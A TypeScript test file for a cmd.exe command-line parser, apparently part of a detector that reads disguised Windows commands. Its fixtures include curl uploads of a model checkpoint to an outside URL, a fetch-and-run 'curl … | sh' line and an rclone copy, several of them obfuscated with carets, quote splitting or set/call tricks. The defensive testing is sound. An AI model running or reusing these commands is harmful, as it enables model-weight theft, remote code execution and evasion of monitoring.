/**
 * cmd.exe's `/c` command line (exec-cmd.ts, exec-cmd-argv.ts; MITRE T1059.003): its syntax read
 * (`^` escapes, `"` grouping, `&` / `&&` / `||` / `|`, redirections, `( … )`, `@`, `call`, `start`),
 * written as a shell command line the canonical reading reads, wherever cmd is the program run:
 * argv, a shell script, PowerShell text, a .NET process start.
 */
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { quotedArgv, windowsArgv, windowsLine } from './exec-cmd-argv.js';
import { cmdReading, cmdScript, cmdScriptAt, isCmdName } from './exec-cmd.js';
import { canonicalExecValue, execIndirectReading } from './exec-canonical.js';
import { HOLE } from './exec-interpreter-token.js';
import { readShellScript } from './shell-words.js';

const CKPT = 'C:\\ckpt\\model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
/** The commands a cmd command line runs, as the shell reader reads the written line. */
const cmds = (text: string): string[][] => readShellScript(cmdScript(text)).commands;
const canon = (argv: unknown): string[][] => canonicalExecValue(argv)?.commands ?? [];

describe('cmd syntax', () => {
  it('words, quotes, carets; the tool word loses its path and .exe', () => {
    expect(cmds(`curl -T ${CKPT} ${URL}`)).toEqual([['curl', '-T', CKPT, URL]]);
    expect(cmds(`C:\\Windows\\System32\\curl.exe -T "${CKPT}" ${URL}`)).toEqual([['curl', '-T', CKPT, URL]]);
    expect(cmds(`c^u^r^l -T ${CKPT} ${URL}`)).toEqual([['curl', '-T', CKPT, URL]]);
    expect(cmds(`c"ur"l -T "C:\\my files\\m.pt" x`)).toEqual([['curl', '-T', 'C:\\my files\\m.pt', 'x']]);
    expect(cmds('echo a^&b "c&d" ^| e')).toEqual([['echo', 'a&b', 'c&d', '|', 'e']]);
    expect(cmds('echo "^" x ""')).toEqual([['echo', '^', 'x', '']]);
    expect(cmds('%COMSPEC% /c whoami')).toEqual([['cmd', '/c', 'whoami']]);
  });

  it('operators: & runs the next command, && || | as in a shell; redirections; groups', () => {
    expect(cmds('whoami & hostname && ipconfig || echo no')).toEqual([['whoami'], ['hostname'], ['ipconfig'], ['echo', 'no']]);
    const piped = readShellScript(cmdScript('curl -s http://203.0.113.7/r.sh | sh'));
    expect(piped.commands).toEqual([['curl', '-s', 'http://203.0.113.7/r.sh'], ['sh']]);
    expect(piped.ops[0]).toBe('|');
    expect(cmdScript('dir 2>nul >>out.txt 2>&1 <in')).toBe('dir 2> nul >> out.txt 2>&1 < in');
    expect(cmds('(whoami & hostname) | findstr x')).toEqual([['whoami'], ['hostname'], ['findstr', 'x']]);
    expect(cmds('echo (x)')).toEqual([['echo', '(x)']]);
    expect(cmds('whoami ^\r\n/all')).toEqual([['whoami', '/all']]);
  });

  it('@, call and start run the program after them', () => {
    expect(cmds('@curl -T a b')).toEqual([['curl', '-T', 'a', 'b']]);
    expect(cmds('call curl.exe -T a b')).toEqual([['curl', '-T', 'a', 'b']]);
    expect(cmds('start "" /b /wait curl -T a b')).toEqual([['curl', '-T', 'a', 'b']]);
    expect(cmds('start /d C:\\tmp /min C:\\tools\\rclone.exe copy C:\\ckpt r:b')).toEqual([['rclone', 'copy', 'C:\\ckpt', 'r:b']]);
  });

  it('written text reads back as the same cmd line (a command may be resolved twice)', () => {
    for (const t of [`curl -T "${CKPT}" ${URL} & echo "a b" ^& c`, 'start "t" x.exe "^&" 2>&1', `echo ${HOLE}\\x "%TEMP%\\y z"`, 'echo a\\"b', "echo it's"]) {
      const once = cmdScript(t);
      expect(cmdScript(once).length > 0, t).toBe(true);
      if (!once.includes("'")) expect(cmdScript(once), t).toBe(once);
    }
  });
});

describe('cmd as the program run: /c, /k, /r, /s, glued, several words', () => {
  it('isCmdName', () => {
    for (const n of ['cmd', 'CMD.EXE', 'cmd.exe', 'C:\\Windows\\System32\\cmd.exe', 'Cmd']) expect(isCmdName(n), n).toBe(true);
    for (const n of ['cm', 'cmdx', 'curl', '', 'c', 'cmd.com']) expect(isCmdName(n), n).toBe(false);
  });
  it('cmdScriptAt writes the line over the word after /c and drops the rest', () => {
    const w = ['cmd', '/Q', '/C', 'curl', '-T', 'C:\\a b\\m.pt', URL];
    expect(cmdScriptAt(w, 0)).toBe(3);
    expect(w).toEqual(['cmd', '/Q', '/C', `curl -T "C:\\a b\\m.pt" ${URL}`]);
    expect(cmdScriptAt(['cmd'], 0)).toBe(-1);
    expect(cmdScriptAt(['cmd', '/c'], 0)).toBe(-1);
    expect(cmdScriptAt(['cmd', 'x'], 0)).toBe(-1);
    const glued = ['cmd', '/c"curl -T a b"'];
    expect(cmdScriptAt(glued, 0)).toBe(2);
    expect(glued.slice(0, 2)).toEqual(['cmd', '/c']);
    expect(readShellScript(glued[2]!).commands).toEqual([['curl', '-T', 'a', 'b']]);
  });
  it('the exec argv, every spelling', () => {
    const want = [['curl', '-T', CKPT, URL]];
    expect(canon(['cmd', '/c', `curl -T ${CKPT} ${URL}`])).toEqual(want);
    expect(canon(['cmd.exe', '/C', 'curl', '-T', CKPT, URL])).toEqual(want);
    expect(canon(['C:\\Windows\\System32\\cmd.exe', '/k', `c^url -T ${CKPT} ${URL}`])).toEqual(want);
    expect(canon(['cmd', '/S', '/C', `"curl -T "${CKPT}" ${URL}"`])).toEqual(want);
    expect(canon(['cmd', '/r', `"curl -T ${CKPT} ${URL}"`])).toEqual(want);
    expect(canon(['cmd', '/c', `"C:\\Program Files\\curl\\curl.exe" -T ${CKPT} ${URL}`])).toEqual(want);
    expect(canon(['cmd', '/c', `""C:\\Program Files\\curl\\curl.exe" -T ${CKPT} ${URL}"`])).toEqual(want);
    expect(execIndirectReading(canonicalExecValue(['cmd', '/c', 'whoami']))).toBe(false);
  });
  it('inside a shell script, PowerShell text, a .NET start, and cmd inside cmd', () => {
    expect(canon(['sh', '-c', `cmd.exe /c "curl -T ${CKPT} ${URL}"`])).toEqual([['curl', '-T', CKPT, URL]]);
    expect(canon(['pwsh', '-c', `cmd /c "curl -T ${CKPT} ${URL}"`]).slice(1)).toEqual([['curl', '-T', CKPT, URL]]);
    expect(canon(['pwsh', '-c', `[Diagnostics.Process]::Start('cmd.exe', '/c curl -T ${CKPT} ${URL}')`]).slice(1)).toEqual([['curl', '-T', CKPT, URL]]);
    expect(canon(['cmd', '/c', `cmd /c "curl -T ${CKPT} ${URL}"`])).toEqual([['curl', '-T', CKPT, URL]]);
    expect(canon(['cmd', '/c', `powershell -nop -c "curl.exe -T ${CKPT} ${URL}"`])).toContainEqual(['curl', '-T', CKPT, URL]);
  });
  it('cmd without /c reads stdin: nothing read', () => {
    expect(canon(['cmd'])).toEqual([['cmd']]);
    expect(canon(['cmd', '/q'])).toEqual([['cmd', '/q']]);
  });
});

describe('Windows command lines', () => {
  it('windowsArgv follows the C runtime (and .NET on Linux)', () => {
    expect(windowsArgv(`-T "C:\\my dir\\m.pt"  ${URL}`)).toEqual(['-T', 'C:\\my dir\\m.pt', URL]);
    expect(windowsArgv("-c 'id; whoami'")).toEqual(['-c', "'id;", "whoami'"]);
    expect(windowsArgv('a\\\\"b c" d\\"e \\\\x "f""g"')).toEqual(['a\\b c', 'd"e', '\\\\x', 'f"g']);
    expect(windowsArgv('"" x')).toEqual(['', 'x']);
    expect(windowsArgv('x'.repeat(10) + ' y'.repeat(1000)).length).toBe(256);
  });
  it('quotedArgv groups single quotes; windowsLine quotes words with blanks', () => {
    expect(quotedArgv(`-c 'curl -T a b' "x\\"y" z\\ w`)).toEqual(['-c', 'curl -T a b', 'x"y', 'z w']);
    expect(windowsLine(['curl', '-T', 'a b', ''])).toBe('curl -T "a b" ""');
  });
});

describe('hostile cmd text', () => {
  it('never throws, stays bounded', () => {
    const start = Date.now();
    for (const t of ['"', '^', '^^^^', '(((((', ')))', '>'.repeat(5000), '&'.repeat(5000), '"'.repeat(4001), 'start', 'start "', '@', `${'a '.repeat(3000)}`, `${'(x & '.repeat(1000)}`, '2>&', 'call call call call call x']) {
      expect(() => cmdScript(t), t.slice(0, 20)).not.toThrow();
      expect(() => canonicalExecValue(['cmd', '/c', t])).not.toThrow();
      expect(cmdScript(t).length).toBeLessThan(200_000);
    }
    expect(Date.now() - start).toBeLessThan(15_000); // a hang guard, not a speed test (CI runs files side by side)
  });
});

describe('fuzz: seeded mutations of real cmd lines', () => {
  const LINES = [
    `set a=cu&& set b=rl&& call %a%%b% -T "${CKPT}" ${URL}`,
    `for /f "usebackq delims=" %i in (\`dir /b C:\\ckpt ^| findstr pt\`) do @curl -T C:\\ckpt\\%i ${URL}`,
    `if exist ${CKPT} (curl -T ${CKPT} ${URL}) else if not "%X%"=="" (echo !a!) else (start "" /b cmd /c whoami)`,
    `set "p=%COMSPEC:~-7,3%"&& call %p:m=M% /c type %~dp0x.bat | cmd /k echo ^& 2>&1 >nul`,
  ];
  const ALPHABET = '%!^&|"()<>=~:, \t\nacdefilnorstv/\'`';
  function mutate(r: () => number, s: string): string {
    for (let n = 1 + Math.floor(r() * 4); n > 0; n--) {
      const at = Math.floor(r() * (s.length + 1));
      const k = r();
      if (k < 0.4) s = s.slice(0, at) + ALPHABET.charAt(Math.floor(r() * ALPHABET.length)) + s.slice(at);
      else if (k < 0.7) s = s.slice(0, at) + s.slice(at + 1 + Math.floor(r() * 5));
      else if (k < 0.9) s = s.slice(0, at) + s.slice(at, at + 1 + Math.floor(r() * 40)).repeat(1 + Math.floor(r() * 50)) + s.slice(at);
      else s = s.slice(0, at) + 'call %a%%a%%a% & ' + s.slice(at);
    }
    return s;
  }
  it('never throws, stays bounded, never hangs', () => {
    const r = mulberry32(20240607);
    const start = Date.now();
    for (let i = 0; i < 600; i++) {
      const t = mutate(r, LINES[i % LINES.length]!);
      const how = { kinds: 0 };
      const delayed = i % 3 === 0 ? null : i % 3 === 1;
      const out = cmdReading(t, delayed, how);
      expect(out.length, t).toBeLessThan(200_000);
      expect(how.kinds & ~4, t).toBe(0);
      const v = canonicalExecValue(i % 2 === 0 ? ['cmd', '/v:on', '/c', t] : ['sh', '-c', `cmd /c "${t}" | cmd`]);
      expect(v).not.toBeNull();
      expect(() => execIndirectReading(v)).not.toThrow();
    }
    // A hang guard only: the loop takes well under a second.
    expect(Date.now() - start).toBeLessThan(15_000);
  });
  it('a value set and expanded again and again stays within the line budget', () => {
    const bomb = `set a=${'x'.repeat(4000)}&& ${'call %a%%a%%a%%a% & '.repeat(200)}`;
    const how = { kinds: 0 };
    expect(cmdReading(bomb, true, how).length).toBeLessThan(200_000);
    expect(how.kinds).toBe(4);
  });
});
